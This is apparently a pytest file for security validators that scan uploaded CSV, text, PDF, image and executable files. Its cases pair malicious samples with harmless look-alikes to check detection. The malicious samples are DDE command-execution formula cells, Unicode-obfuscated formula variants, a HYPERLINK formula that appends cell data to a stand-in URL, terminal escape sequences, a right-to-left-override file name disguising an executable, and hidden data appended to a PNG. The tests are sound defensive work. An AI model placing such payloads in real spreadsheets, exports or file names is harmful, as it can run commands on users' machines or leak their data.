"""The ssi checks' own decisions, side by side: what must trigger and what must not."""

from __future__ import annotations

import time

import pytest

from fixtures import hostile
from validators.base import CheckContext, DeadlineExceededError, ProofFile
from validators.ssi import executables, formulas, images, pdf, text


def _file(name: str, data: bytes, media_type: str = "application/octet-stream") -> ProofFile:
    return ProofFile(path=name, size=len(data), sha256="0" * 64, media_type=media_type, data=data)


@pytest.mark.parametrize(
    ("cell", "dangerous"),
    [
        ("=1+1", True),
        ("@SUM(A1)", True),
        ("+cmd|' /C calc'!A0", True),
        ('-HYPERLINK("http://x")', True),
        ("\uff1dcmd", True),
        ("-12.5", False),
        ("+33 6 12 34 56 78", False),
        ("25,00", False),
        ("- suite du traitement", False),
        ("Dupont", False),
        ("\t=1+1", True),
        ("\r\n@SUM(A1:A2)", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ("-A1*10", True),
        ("+$B$2", True),
        ("-R1C1", True),
        ("+=cmd", True),
        ("\ufe66cmd|x", True),
        ("\uff0dHYPERLINK(\"http://x\")", True),
        ("'=1+1", False),
        ("-12,5", False),
        ("-1 234,56", False),
        ("+33-1-42-51-51-51", False),
        ("+33 (0)1 42 51 51 51", False),
        ("@ 10h", False),
        ("-", False),
        ("=", False),
        ("-COVID19 négatif", False),
        ("", False),
    ],
)
def test_formula_cells(cell: str, dangerous: bool) -> None:
    assert (formulas.formula_kind(cell) is not None) is dangerous


@pytest.mark.parametrize(
    ("csv_text", "lines"),
    [
        ("date,acte\n2026-03-02,25\nDupont;=cmd|' /C calc'!A0;0\n", [3]),
        ("nom,montant\nDupont\t@SUM(A1)\n", [2]),
        ('nom;montant\nDupont|=HYPERLINK("https://x")\n', [2]),
        ("nom;montant\nDupont|-2+3+cmd\n", []),
        ('nom;lien\n"Dupont; Marie";"=HYPERLINK(""https://x/?""&A1)"\n', [2]),
        ('a;b\n"ligne\nsuite";=1+1\n', [3]),
        ("acte;montant\nconsultation;-12,5;-3;+33 6 12 34 56 78\n", []),
    ],
)
def test_formulas_are_judged_under_every_delimiter(csv_text: str, lines: list[int]) -> None:
    found = formulas.scan(csv_text)
    assert found.complete
    assert sorted({f.location.line for f in found.findings}) == lines


@pytest.mark.parametrize(
    ("name", "data", "formula"),
    [
        ("export.txt", "date\tmontant\r\nx\t=1+cmd|' /C calc'!A0\r\n".encode("utf-16"), True),
        ("export.txt", b"a\tb\nc\t@SUM(A1)\n", True),
        ("journal.txt", b"===== debut =====\nligne\n-- fin\n", False),
        ("journal.log", b"=== x\tcolonne\nseule ligne sans tabulation\n", False),
    ],
)
def test_a_tab_separated_text_is_judged_like_a_spreadsheet_export(name: str, data: bytes, formula: bool) -> None:
    result = text.TextValidator().check(_file(name, data, "text/plain"), CheckContext())
    assert ("ssi.text.formula-injection" in {f.rule for f in result.findings}) is formula


def test_a_formula_is_reported_once_whatever_the_split() -> None:
    found = formulas.scan("=cmd|' /C calc'!A0\n")
    assert len(found.findings) == 1


def test_a_csv_over_the_cell_bound_is_not_passed() -> None:
    many = "-1;-2;-3;-4\n" * 1000
    assert formulas.scan(many, max_cells=100).complete is False
    result = text.TextValidator().check(
        _file("grand.csv", ("=1+1;" * 10 + "\n").encode() * 200_000, "text/csv"), CheckContext()
    )
    assert result.state.value in ("ran", "not_run")
    if result.state.value == "not_run":
        assert "cells" in (result.detail or "")


def test_a_huge_quoted_field_does_not_hide_the_cells_after_it() -> None:
    data = 'a;b\n"' + "x" * 300_000 + '";=1+1\n'
    assert [f.location.line for f in formulas.scan(data).findings] == [2]


@pytest.mark.parametrize(
    ("sample", "rules"),
    [
        ("\x1b]0;title\x07", ["ssi.text.terminal-escape"]),
        ("\x1b[6n", ["ssi.text.terminal-escape"]),
        ("\x1b[31mred\x1b[0m", ["ssi.text.terminal-colour"]),
        ("plain log line, accents éà", []),
    ],
)
def test_terminal_sequences(sample: str, rules: list[str]) -> None:
    assert [f.rule for f in text.escape_findings(sample)] == rules


def test_bidi_marks_are_allowed_but_overrides_are_not() -> None:
    assert list(text.bidi_findings("nom \u200f arabe")) == []
    assert [f.location.line for f in text.bidi_findings("a\nb\u202ec")] == [2]


def test_file_names_with_controls_or_overrides() -> None:
    assert [f.rule for f in text.name_findings("facture\u202efdp.exe")] == ["ssi.filename"]
    assert [f.rule for f in text.name_findings("a\x1b[2Jb.log")] == ["ssi.filename"]
    assert list(text.name_findings("capture écran 1.png")) == []


def test_escaped_pdf_names_are_found_only_for_watched_names() -> None:
    found = list(pdf.escaped_dangerous_names(b"/J#61vaScript /Times#20New#20Roman /Open#41ction"))
    assert found == [("JavaScript", "J#61vaScript"), ("OpenAction", "Open#41ction")]


def test_pdf_walk_stops_at_the_deadline() -> None:
    data = hostile.pdf("", tuple(f"<< /N {i} >>" for i in range(600)))
    ctx = CheckContext(deadline=time.monotonic() - 1)
    with pytest.raises(DeadlineExceededError):
        pdf.PdfValidator().check(_file("a.pdf", data, "application/pdf"), ctx)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (hostile.pe(), "Windows (PE/MZ)"),
        (hostile.elf(), "ELF"),
        (hostile.macho(), "Mach-O"),
        (b"#!/usr/bin/env python3\n", "script (shebang)"),
        (b"MZ is also how a text can start", None),
        (b"#!not a path", None),
        (b"%PDF-1.7\n", None),
    ],
)
def test_executable_headers(data: bytes, kind: str | None) -> None:
    assert executables.executable_kind(data) == kind


def test_random_compressed_data_is_not_a_polyglot() -> None:
    import os
    import zlib

    noise = zlib.compress(os.urandom(2_000_000))
    assert list(executables.hidden_formats(noise, 0, outer_is_pdf=True)) == []


def test_image_trailing_padding_is_tolerated_but_data_is_not() -> None:
    validator = images.ImagesValidator()
    ctx = CheckContext()
    padded = hostile.png(4, 4) + b"\0\0\0\0"
    assert validator.check(_file("a.png", padded, "image/png"), ctx).findings == []
    hidden = hostile.png(4, 4) + b"PK\x03\x04payload"
    assert [f.rule for f in validator.check(_file("a.png", hidden, "image/png"), ctx).findings] == [
        "ssi.image.trailing-data"
    ]


def test_truncated_image_says_what_was_not_covered() -> None:
    result = images.ImagesValidator().check(
        _file("a.png", hostile.png(4, 4)[:40], "image/png"), CheckContext()
    )
    assert result.state.value == "partial"
    assert [f.rule for f in result.findings] == ["ssi.image.unparsed"]
